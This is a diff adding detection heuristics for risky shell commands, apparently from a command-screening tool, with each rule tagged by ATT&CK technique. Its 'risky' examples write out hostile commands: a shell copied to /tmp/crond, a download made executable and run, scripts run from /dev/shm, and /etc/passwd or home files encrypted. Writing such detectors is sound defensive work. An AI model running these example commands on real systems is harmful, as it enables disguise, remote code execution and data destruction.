@@ -1,0 +1,151 @@
+// Scratch places: things made, renamed, hidden or fetched there and run at once.
+import { severity } from "../bands.ts";
+import { type Heuristic, firstOf, onAnyCommand, onCommand, onPath } from "../heuristic.ts";
+import { isShell } from "../programs.ts";
+import { joined, operands, privileged, verbs } from "../read.ts";
+
+export const scratch: readonly Heuristic[] = [
+  {
+    id: "shell-copied",
+    threat: "Obfuscation",
+    technique: "T1036.003",
+    score: severity.ask,
+    check: onCommand(["cp", "mv", "ln", "install"], (command) => {
+      const source = /\$\((?:which|command -v) (?:ba|z|da)?sh\)/u.test(command.text)
+        ? "the shell"
+        : operands(command).find((operand) =>
+            /^\/(?:usr\/)?bin\/(?:(?:ba|z|da|k|c)?sh|python\d?(?:\.\d+)?|perl|ruby|nc|ncat|curl|wget|base64)$/u.test(
+              operand,
+            ),
+          );
+      const target = operands(command).at(-1) ?? "";
+      return source !== undefined && target !== source && !/^\/(?:usr\/)?(?:local\/)?bin\//u.test(target)
+        ? `It gives ${source} another name or place`
+        : null;
+    }),
+    examples: {
+      risky: ["cp /bin/sh /tmp/crond"],
+      honest: ["cp run.sh /tmp/run.sh", "ln -s /usr/bin/python3 /usr/local/bin/python"],
+    },
+  },
+  {
+    id: "download-made-runnable",
+    threat: "Remote code execution",
+    technique: "T1105",
+    score: severity.ask,
+    check: onCommand(["chmod"], (command, view) =>
+      /\+[rw]*x|\b[0-7]?[1357][0-7]{2}\b/u.test(joined(command)) &&
+      view.facts.commands.some((other) => /^(?:curl|wget|fetch|aria2c|scp|ftp)$/u.test(other.program)) &&
+      view.facts.hosts.some((host) => !host.local) &&
+      view.facts.commands.some((other) => isShell(other.program) || /^\.?\//u.test(other.text))
+        ? "It downloads something, makes it runnable and runs a program"
+        : null,
+    ),
+    examples: {
+      risky: ["curl -sO https://e.example/a.sh; chmod +x a.sh; bash b.sh"],
+      honest: ["chmod +x run.sh && ./run.sh", "curl -o a.json https://e.example/a.json"],
+    },
+  },
+  {
+    id: "build-file-run",
+    threat: "Living off the land",
+    technique: "T1127",
+    score: severity.weak,
+    check: onAnyCommand((command, view) => {
+      const file = command.redirects.find(
+        (redirect) =>
+          redirect.operator.includes(">") &&
+          /(?:^|\/)(?:setup\.py|makefile|package\.json|gemfile|vagrantfile|composer\.json|rakefile|build\.gradle|pom\.xml|cmakelists\.txt|dockerfile|\w+\.spec)$/iu.test(
+            redirect.target,
+          ),
+      );
+      const tool =
+        file === undefined
+          ? undefined
+          : view.facts.commands.find((other) =>
+              /^(?:pip3?|easy_install|make|npm|yarn|pnpm|bundle|vagrant|composer|rake|gradle|mvn|cmake|docker|rpmbuild|python3?)$/u.test(
+                other.program,
+              ),
+            );
+      return tool === undefined ? null : `It writes ${file?.target} and has ${tool.program} obey it at once`;
+    }),
+    examples: { risky: ["echo 'x' > setup.py; pip install ."], honest: ["pip install .", "echo x > notes.txt; make"] },
+  },
+  {
+    id: "script-from-scratch-place",
+    threat: "Living off the land",
+    technique: "T1204.002",
+    score: severity.ask,
+    check: onAnyCommand((command) => {
+      const script = isShell(command.program) ? operands(command)[0] : undefined;
+      return script !== undefined &&
+        /^\/(?:tmp|var\/tmp|dev\/shm|private\/tmp)\/\S/u.test(script) &&
+        !command.arguments.includes("-c") &&
+        !command.arguments.includes("-n")
+        ? `It runs the script ${script} from a place for scratch files`
+        : null;
+    }),
+    examples: {
+      risky: ["sh /tmp/x.sh", "bash /dev/shm/.a"],
+      honest: ["bash run.sh", "bash -n /tmp/x.sh", "python /tmp/x.py"],
+    },
+  },
+  {
+    id: "hidden-scratch-file",
+    threat: "Obfuscation",
+    technique: "T1564.001",
+    score: severity.warn,
+    check: onPath((path) =>
+      path.access === "write" &&
+      path.zone === "temporary" &&
+      /\/\.[a-z][\w.-]*$/iu.test(path.path) &&
+      !/\/\.(?:git\w*|cache|npm|config|env|venv|pytest_cache|mypy_cache|x\d+\S*|ice-unix|coverage\w*)/iu.test(path.path)
+        ? `It makes the hidden file ${path.path}`
+        : null,
+    ),
+    examples: {
+      risky: ["mkdir /var/tmp/.hidden", "echo x > /tmp/.log"],
+      honest: ["echo x > /tmp/log", "mkdir -p .config"],
+    },
+  },
+  {
+    id: "files-encrypted",
+    threat: "Data destruction",
+    technique: "T1486",
+    score: severity.warn,
+    check: firstOf(
+      onCommand(["openssl"], (command) =>
+        verbs(command)[0] === "enc" &&
+        !/(?:^|\s)-d\b/u.test(joined(command)) &&
+        /(?:^|\s)-in\s+(?:\/|~)/u.test(joined(command))
+          ? "It encrypts files outside the project"
+          : null,
+      ),
+      onCommand(["gpg", "ccencrypt", "ccrypt", "7z", "7za"], (command) =>
+        /(?:^|\s)(?:-c|--symmetric|-T|-p\S*)(?:\s|$)/u.test(joined(command)) &&
+        /(?:^|\s)(?:\/(?:etc|home|Users|var)|~)\//u.test(joined(command))
+          ? "It encrypts files outside the project"
+          : null,
+      ),
+    ),
+    examples: {
+      risky: ["openssl enc -aes-256-cbc -in /etc/passwd -out x", "gpg -c ~/notes.txt"],
+      honest: ["openssl enc -d -in a.enc", "gpg -c notes.txt"],
+    },
+  },
+  {
+    id: "administrator-file-tool",
+    threat: "Privilege escalation",
+    technique: "T1548.003",
+    score: severity.note,
+    check: onAnyCommand((command) =>
+      privileged(command) &&
+      /^(?:dd|date|xxd|od|hexdump|base64|cut|sort|comm|diff|nl|tac|rev|fold|strings|xz|gzip|less|more|tee|cp|mv|install|ln|rsync|tar|cpio|ar|zip|ed|vim?|nano|sed|awk|find|xargs|env)$/u.test(
+        command.program,
+      )
+        ? `${command.program} reads or writes files with the administrator's rights`
+        : null,
+    ),
+    examples: { risky: ["sudo xxd secret"], honest: ["xxd a.bin"] },
+  },
+];
